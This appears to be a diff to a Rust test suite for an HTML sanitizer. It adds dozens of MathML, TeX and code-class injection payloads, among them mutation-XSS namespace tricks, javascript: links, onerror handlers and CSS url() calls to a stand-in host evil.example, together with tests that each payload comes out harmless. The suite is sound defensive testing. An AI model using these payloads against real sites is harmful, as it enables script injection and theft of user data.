@@ -87,6 +87,65 @@ const FOREIGN: [&str; 26] = [
     "<plaintext><img src=x onerror=alert(1)>",
 ];
 
+/// What is known to turn MathML into HTML on a second reading, and what else hides in formulas.
+const FORMULAS: [&str; 44] = [
+    "<math><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></mtext></math>",
+    "<math><mtext><title><a title=\"</title><img src onerror=alert(1)>\"></title></mtext></math>",
+    "<math><mi><mglyph><style><a title=\"</style><img src onerror=alert(1)>\">",
+    "<math><mi><malignmark><style><!--</style><img src onerror=alert(1)>--></malignmark></mi></math>",
+    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img src onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></table></mtext></math>",
+    "<math><mtext><table><tr><td><mglyph><style><img src onerror=alert(1)></style></td></tr></table></mtext></math>",
+    "<math><annotation-xml encoding=\"text/html\"><p><img src onerror=alert(1)></p></annotation-xml></math>",
+    "<math><annotation-xml encoding='application/xhtml+xml'><script>alert(1)</script></annotation-xml><mi>x</mi></math>",
+    "<math><annotation-xml encoding='text/html'><style><!--</style><img src onerror=alert(1)>--></annotation-xml></math>",
+    "<math><annotation-xml><svg><style><img src onerror=alert(1)></style></svg></annotation-xml></math>",
+    "<math><annotation-xml encoding='MathML-Content'><apply><plus/><ci>x</ci></apply></annotation-xml></math>",
+    "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'></annotation><img src onerror=alert(1)></semantics></math>",
+    "<math><semantics><mi>x</mi><annotation encoding='application/x-tex'>&lt;/annotation>&lt;img src onerror=alert(1)></annotation></semantics></math>",
+    "<math><annotation encoding='application/x-tex'>x</math><img src onerror=alert(1)>",
+    "<math><annotation encoding='application/x-tex'>\\text{</annotation></semantics></math><img src onerror=alert(1)>}</annotation>",
+    "<math><annotation encoding='application/x-tex'>\\operatorname{&lt;img src onerror=alert(1)&gt;}</annotation></math>",
+    "<math><annotation encoding='application/x-tex'>\\href{javascript:alert(1)}{x}</annotation></math>",
+    "<math><annotation encoding='application/x-tex'>\\color{red;background:url(//evil.example)}x</annotation></math>",
+    "<math><mrow><p>text<mi>x</mi></p></mrow></math>",
+    "<math><mi>x<p>text</mi></math></p>",
+    "<math><mtext><p><mi>x</mi></p></mtext></math>",
+    "<math><mtext></p></mtext></math>",
+    "<math></p><mi>x</math>",
+    "<math></br><mi>x</math>",
+    "<math><mi></math></mi><img src onerror=alert(1)>",
+    "<math><math><mi>x</math><mo>y</math>",
+    "<math><mi href='javascript:alert(1)' onclick='alert(1)' style='position:fixed' id=main>x</mi></math>",
+    "<math xlink:href='javascript:alert(1)' xmlns:xlink='http://www.w3.org/1999/xlink'><mi>x</mi></math>",
+    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<math><mspace width='9999em' height='9999em'/><mpadded voffset='-999em' lspace='-99em'><mi>x</mi></mpadded></math>",
+    "<math><mo minsize='1e9em' maxsize='99999px'>(</mo></math>",
+    "<math><mtable><mtr><mtd columnspan=65535 rowspan=65535 class='overlay banner'>x</mtd></mtr></mtable></math>",
+    "<math><mfenced open='&lt;script>' close='\"onclick=alert(1)' separators='<img'><mi>x</mi><mi>y</mi></mfenced></math>",
+    "<math><mi><![CDATA[<img src onerror=alert(1)>]]></mi></math>",
+    "<math><mi><!--</mi><img src onerror=alert(1)>--></mi></math>",
+    "<math><script>alert(1)</script><mi>x</mi></math>",
+    "<math><mtext><script>alert(1)</script></mtext></math>",
+    "<math><ms lquote='<img src onerror=alert(1)>'>x</ms></math>",
+    "<math><mi>\u{fdd0}0\u{fdd0}</mi></math>\u{fdd0}0\u{fdd0}<p title='\u{fdd0}0\u{fdd0}'>x</p>",
+    "<math><none><mprescripts><mspace><img src onerror=alert(1)></mspace></math>",
+    "$\\text{</math><img src onerror=alert(1)>}$ and $x<img src onerror=alert(1)>$",
+    "$\\operatorname{&lt;script&gt;alert(1)&lt;/script&gt;}$ $\\text{&lt;img src onerror=alert(1)&gt;}$",
+    "\\(\\unicode{x3c}script\\) \\[\\char`<img\\] $\\style{position:fixed}{x}$ $\\class{a}{x}$",
+];
+
+const CODE: [&str; 8] = [
+    "<pre><code class=\"language-python\">a < b</code></pre>",
+    "<pre class='language-c++ line-numbers'>x</pre>",
+    "<code class='language-\" onclick=alert(1)'>x</code>",
+    "<code class='language-python banner'>x</code>",
+    "<code class='language-PYTHON'>x</code>",
+    "<code class='language-abcdefghijklmnopqrstuvwxyz'>x</code>",
+    "<p class='language-python'>x</p>",
+    "```python onclick=alert(1)\n<img src onerror=alert(1)>\n```",
+];
+
 const STYLES_AND_FORMS: [&str; 25] = [
     "<style>@import '//evil.example/x.css';</style>",
     "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
@@ -188,6 +247,21 @@ fn svg_mathml_and_mutation_tricks_never_reach_a_page() {
 }
 
 #[test]
+fn mathml_is_no_way_around() {
+    assert_all_harmless(&FORMULAS);
+    let sanitizer = sanitizer();
+    for payload in FORMULAS {
+        let once = sanitizer.html(payload);
+        assert_eq!(sanitizer.html(once.as_str()), once, "{payload}");
+    }
+}
+
+#[test]
+fn code_names_its_language_and_nothing_else() {
+    assert_all_harmless(&CODE);
+}
+
+#[test]
 fn styles_forms_and_redirects_never_reach_a_page() {
     assert_all_harmless(&STYLES_AND_FORMS);
 }
@@ -214,6 +288,14 @@ fn the_inspection_would_notice() {
         "<svg></svg>",
         "<!-- x -->",
         "<input>",
+        "<math><mi href=x>x</mi></math>",
+        "<math><mi style=x>x</mi></math>",
+        "<math><mtext><b>x</b></mtext></math>",
+        "<math><mglyph></mglyph></math>",
+        "<math><annotation-xml encoding=text/html><p>x</p></annotation-xml></math>",
+        "<math><maction>x</maction></math>",
+        "<p class=banner>x</p>",
+        "<code class='language-python banner'>x</code>",
     ];
     for html in sneaked {
         assert!(std::panic::catch_unwind(|| assert_harmless(html, html)).is_err(), "{html}");
